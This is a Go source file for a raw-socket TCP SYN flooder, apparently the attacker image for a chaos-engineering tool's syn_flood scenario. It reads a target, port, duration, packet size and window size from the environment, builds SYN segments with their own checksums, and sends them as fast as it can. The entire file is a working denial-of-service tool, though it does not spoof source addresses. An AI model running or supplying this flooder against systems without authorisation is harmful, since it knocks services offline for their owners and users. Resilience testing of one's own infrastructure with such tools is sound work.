// syn-flood: the attacker of krkn's syn_flood scenario, under krkn's image name
// (quay.io/krkn-chaos/krkn-syn-flood), with its contract: TARGET (an address or a host name),
// TARGET_PORT, DURATION (seconds), PACKET_SIZE (data bytes per SYN, default 120) and WINDOW_SIZE
// (default 64), as krkn's hping3 run takes them. It sends TCP SYNs from a raw socket as fast as
// it can for DURATION seconds, from the node's own address (no spoofed sources: the answers come
// back to the node, whose kernel resets them), then prints what it sent.
package main

import (
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"net"
	"os"
	"os/signal"
	"strconv"
	"syscall"
	"time"
)

func env(name string, def int) int {
	v := os.Getenv(name)
	if v == "" {
		return def
	}
	n, err := strconv.Atoi(v)
	if err != nil || n < 0 {
		fail("%s=%q is not a non-negative integer", name, v)
	}
	return n
}

func fail(format string, args ...any) {
	fmt.Fprintf(os.Stderr, "syn-flood: "+format+"\n", args...)
	os.Exit(1)
}

// checksum is the Internet checksum of the TCP segment with its IPv4 pseudo header.
func checksum(src, dst net.IP, segment []byte) uint16 {
	var sum uint32
	add := func(b []byte) {
		for i := 0; i+1 < len(b); i += 2 {
			sum += uint32(binary.BigEndian.Uint16(b[i:]))
		}
		if len(b)%2 == 1 {
			sum += uint32(b[len(b)-1]) << 8
		}
	}
	add(src)
	add(dst)
	sum += uint32(syscall.IPPROTO_TCP) + uint32(len(segment))
	add(segment)
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	return ^uint16(sum)
}

func main() {
	target := os.Getenv("TARGET")
	port, seconds := env("TARGET_PORT", -1), env("DURATION", -1)
	size, window := env("PACKET_SIZE", 120), env("WINDOW_SIZE", 64)
	if target == "" || port < 1 || port > 65535 || seconds < 0 || window > 65535 || size > 65000 {
		fail("needs TARGET, TARGET_PORT (1-65535) and DURATION (seconds); PACKET_SIZE <= 65000, WINDOW_SIZE <= 65535")
	}
	ips, err := net.LookupIP(target)
	var dst net.IP
	for _, ip := range ips {
		if ip.To4() != nil {
			dst = ip.To4()
			break
		}
	}
	if err != nil || dst == nil {
		fail("no IPv4 address for %s: %v", target, err)
	}
	// The source address the kernel picks for this destination.
	probe, err := net.Dial("udp4", net.JoinHostPort(dst.String(), strconv.Itoa(port)))
	if err != nil {
		fail("no route to %s: %v", dst, err)
	}
	src := probe.LocalAddr().(*net.UDPAddr).IP.To4()
	probe.Close()
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_TCP)
	if err != nil {
		fail("raw socket (needs CAP_NET_RAW): %v", err)
	}
	signals := make(chan os.Signal, 1)
	signal.Notify(signals, syscall.SIGINT, syscall.SIGTERM)
	to := &syscall.SockaddrInet4{Addr: [4]byte(dst)}
	segment := make([]byte, 20+size)
	deadline := time.Now().Add(time.Duration(seconds) * time.Second)
	fmt.Printf("syn-flood: %s:%d from %s for %ds, %d data bytes, window %d\n", dst, port, src, seconds, size, window)
	var sent, failed uint64
	for done := false; !done; {
		for range 256 {
			binary.BigEndian.PutUint16(segment[0:], uint16(1024+rand.IntN(64512)))
			binary.BigEndian.PutUint16(segment[2:], uint16(port))
			binary.BigEndian.PutUint32(segment[4:], rand.Uint32())
			binary.BigEndian.PutUint32(segment[8:], 0)
			segment[12], segment[13] = 5<<4, 0x02 // header of 5 words; SYN
			binary.BigEndian.PutUint16(segment[14:], uint16(window))
			binary.BigEndian.PutUint32(segment[16:], 0) // checksum, urgent pointer
			binary.BigEndian.PutUint16(segment[16:], checksum(src, dst, segment))
			if syscall.Sendto(fd, segment, 0, to) == nil {
				sent++
			} else {
				failed++
			}
		}
		select {
		case <-signals:
			done = true
		default:
			done = !time.Now().Before(deadline)
		}
	}
	fmt.Printf("syn-flood: sent %d SYN packets to %s:%d (%d refused by the kernel)\n", sent, dst, port, failed)
}
